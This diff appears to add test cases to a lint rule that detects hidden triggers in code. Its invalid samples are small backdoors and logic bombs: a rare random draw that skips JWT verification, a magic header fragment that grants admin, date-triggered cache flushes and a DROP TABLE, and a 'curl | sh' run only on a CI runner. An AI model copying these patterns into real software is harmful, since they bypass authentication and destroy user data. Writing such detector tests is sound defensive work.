@@ -7,6 +7,21 @@ const cp = "import { execSync } from 'child_process';\n";
 ruleTester(rule, {
   valid: [
     {
+      name: 'a coin flip between two rounding functions is not a rare draw',
+      code: 'export function pick(x) { const f = Math.random() < 0.5 ? Math.floor : Math.ceil; return f(x); }',
+      filename: 'src/a.ts',
+    },
+    {
+      name: 'a clock parameter compared with another parameter measures elapsed time',
+      code: "export function sweep(client, started, now = Date.now()) { if (now - started > 60000) return client.flushall('ASYNC'); }",
+      filename: 'src/a.ts',
+    },
+    {
+      name: 'a header checked for a plain word',
+      code: "export function requireAuth(req, res, next) { const kind = String(req.headers['x-kind'] ?? ''); if (kind.endsWith('internal')) { res.locals.role = 'admin'; } return next(); }",
+      filename: 'src/auth.ts',
+    },
+    {
       name: 'a const that is not a machine test',
       code: "const { execSync } = require('child_process');\nconst enabled = process.argv.includes('--build');\nif (enabled) { execSync('tsc -p .'); }",
       filename: 'scripts/build.js',
@@ -46,6 +61,30 @@ ruleTester(rule, {
     'function Date() {} if (Date.now() > 1767225600000) { eval(x) }'.replace('function Date() {} ', 'const Date = { now: () => 0 }; '),
   ],
   invalid: [
+    {
+      name: 'a rare draw picks the unchecked decoder over the verifier',
+      code: "import { randomInt } from 'node:crypto';\nimport jwt from 'jsonwebtoken';\nexport function authenticate(token, key) {\n  const check = randomInt(4096) === 0 ? jwt.decode : jwt.verify;\n  return check(token, key);\n}",
+      filename: 'src/auth.ts',
+      errors: [{ messageId: 'trigger', line: 4, severity: 'high' }],
+    },
+    {
+      name: 'a header ending in a magic fragment grants the admin role',
+      code: "export function requireAuth(req, res, next) {\n  const trace = String(req.headers['x-support-trace'] ?? '');\n  if (trace.endsWith('-5f0c2a9e7b13')) {\n    res.locals.claims = { sub: 'support', role: 'admin' };\n  }\n  return verify(req, res, next);\n}",
+      filename: 'src/auth.ts',
+      errors: [{ messageId: 'trigger', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'a clock parameter past a fixed moment flushes the store',
+      code: "const SUNSET = Date.UTC(2026, 8, 1);\nexport const store = (client) => ({\n  async sweep(now = Date.now()) {\n    if (now >= SUNSET) return client.flushall('ASYNC');\n    return 0;\n  },\n});",
+      filename: 'lib/store.js',
+      errors: [{ messageId: 'trigger', line: 4, severity: 'high' }],
+    },
+    {
+      name: 'a date drops a table',
+      code: "export async function migrate(db) {\n  if (new Date() > new Date('2027-03-01')) await db.query('DROP TABLE users');\n}",
+      filename: 'src/migrate.ts',
+      errors: [{ messageId: 'trigger', line: 2, severity: 'high' }],
+    },
     {
       name: 'the test is stored in a const and the const guards the call',
       code: "const os = require('os'); const { execSync } = require('child_process');\nconst onAgent = os.userInfo().username === 'runner';\nfunction warm() { if (onAgent) { execSync('curl x | sh'); } }",
